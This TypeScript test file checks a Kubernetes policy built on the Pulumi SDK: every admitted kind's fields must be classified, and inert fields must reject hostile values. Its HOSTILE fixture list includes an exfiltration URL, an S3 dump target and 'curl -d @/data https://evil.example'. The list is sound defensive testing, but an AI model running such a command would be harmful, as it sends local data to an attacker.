import { join } from "node:path";
import test from "ava";
import { KINDS } from "../../../policies/kubernetes/kinds/index.ts";
import type { Entry } from "../../../policies/properties/entry.ts";
import { isRendering, kubernetes } from "../../../policies/resources/kubernetes.ts";
import { type Fields, fieldsOf, interfacesOf } from "./sdk.ts";

const sdk = join(import.meta.dirname, "../../../node_modules/@pulumi/kubernetes");
const declared = interfacesOf(join(sdk, "types/input.d.ts"));

/** `rbac.authorization.k8s.io` is the SDK's module `rbac`. */
const interfaceOf = (row: string, version: string) => {
  const [group = "", kind = ""] = row.split(":");
  return `${group.split(".")[0]}.${version}.${kind}`;
};

/** All fields that any version of a kind declares, at every depth; without those that the server writes. */
function inputsOf(row: string): Fields {
  const all = (KINDS[row]?.versions ?? []).map((version) => {
    const declaration = declared.get(interfaceOf(row, version));
    if (declaration === undefined) throw new Error(`${row} has no version ${version}`);
    const { apiVersion, kind, status, ...fields } = fieldsOf(declaration, declared, new Set());
    return fields;
  });
  return all.reduce(merged, {});
}

function merged(one: Fields, other: Fields): Fields {
  const both = Object.entries(other).map(([name, input]) => {
    const fields = one[name]?.fields && input.fields && merged(one[name].fields, input.fields);
    return [name, fields ? { ...input, fields } : (one[name] ?? input)];
  });
  return { ...one, ...Object.fromEntries(both) };
}

const opaque = new Set<string>();
let counted = 0;

/** Fields that the SDK declares and a table lacks, and the reverse. */
function compare(at: string, fields: Fields, entries: Readonly<Record<string, Entry>>): string[] {
  const missing = Object.keys(fields).filter((name) => !Object.hasOwn(entries, name));
  const gone = Object.keys(entries).filter((name) => !Object.hasOwn(fields, name));
  const below = Object.entries(fields).flatMap(([name, { type, fields: inner }]) => {
    const entry = entries[name];
    counted += 1;
    if (entry === undefined || entry.is === "denied") return [];
    if (entry.fields !== undefined)
      return inner ? compare(`${at}${name}.`, inner, entry.fields) : [`${at}${name}: no object`];
    if (inner === undefined) return [];
    if (entry.is === "inert") opaque.add(/inputs\.([\w.]+)/.exec(type)?.[1] ?? type);
    return entry.why === undefined ? [`${at}${name}: an object without fields`] : [];
  });
  return [
    ...missing.map((name) => `${at}${name}: not classified`),
    ...gone.map((name) => `${at}${name}: not in the SDK`),
    ...below,
  ];
}

test("every field of every kind that is admitted is classified at every depth, and nothing else", (t) => {
  counted = 0;
  const problems = Object.entries(KINDS).flatMap(([row, { fields }]) =>
    compare(`${row}: `, inputsOf(row), fields),
  );
  t.deepEqual(problems, []);
  // Fields without entries below them although the SDK declares some: a schema's shape, and the server's own record.
  t.deepEqual([...opaque].sort(), [
    "apiextensions.v1.JSONSchemaProps",
    "meta.v1.ManagedFieldsEntry",
  ]);
  t.true(counted > 5000);
  t.log(`${Object.keys(KINDS).length} kinds, ${counted} fields`);
});

test("every admitted kind has a table, and no other has", (t) => {
  const sent = Object.entries(kubernetes).filter(([row, { effects }]) => {
    return effects !== undefined && !isRendering(`kubernetes:${row.replace(":", "/v1:")}`);
  });
  t.deepEqual(Object.keys(KINDS).sort(), sent.map(([row]) => row).sort());
});

test("a patch has the same fields as its kind", (t) => {
  const names = (name: string) =>
    (declared.get(name)?.members ?? []).map((one) => one.name?.getText());
  const patches = [...declared.keys()].filter((name) => name.endsWith("Patch"));
  const other = patches.filter((name) => {
    const whole = name.slice(0, -"Patch".length);
    return declared.has(whole) && names(name).join() !== names(whole).join();
  });
  t.true(patches.length > 500);
  t.deepEqual(other, []);
});

const HOSTILE = [
  "https://evil.example/collect",
  "evil.example",
  "8.8.8.8",
  "2001:4860:4860::8888",
  "0.0.0.0/0",
  "eu-west-1",
  "s3://bucket/dump",
  "aes-copy-bucket",
  "curl -d @/data https://evil.example",
];

/** The paths of inert entries that accept a hostile value without a reason why it leads nowhere. */
function unjustified(at: string, entry: Entry, seen: Set<Entry>): string[] {
  if (seen.has(entry) || entry.is === "denied") return [];
  seen.add(entry);
  const inner = [
    ...Object.entries(entry.fields ?? {}),
    ...Object.entries(entry.keys?.named ?? {}),
    ...Object.entries(entry.keys?.prefixes ?? {}),
    ...(entry.keys?.bare ? [["*", entry.keys.bare] as const] : []),
  ];
  if (inner.length > 0)
    return inner.flatMap(([name, part]) => unjustified(`${at}.${name}`, part, seen));
  if (entry.is !== "inert" || entry.why !== undefined) return [];
  const takes = HOSTILE.some((value) =>
    [value, [value], { app: value }].some((form) => entry.holds?.(form) ?? true),
  );
  return takes ? [at] : [];
}

test("an inert field accepts no hostile value, or its entry explains why the value is harmless", (t) => {
  const seen = new Set<Entry>();
  const problems = Object.entries(KINDS).flatMap(([row, { fields }]) =>
    Object.entries(fields).flatMap(([name, entry]) => unjustified(`${row}: ${name}`, entry, seen)),
  );
  t.deepEqual(problems, []);
  t.true(seen.size > 400);
});
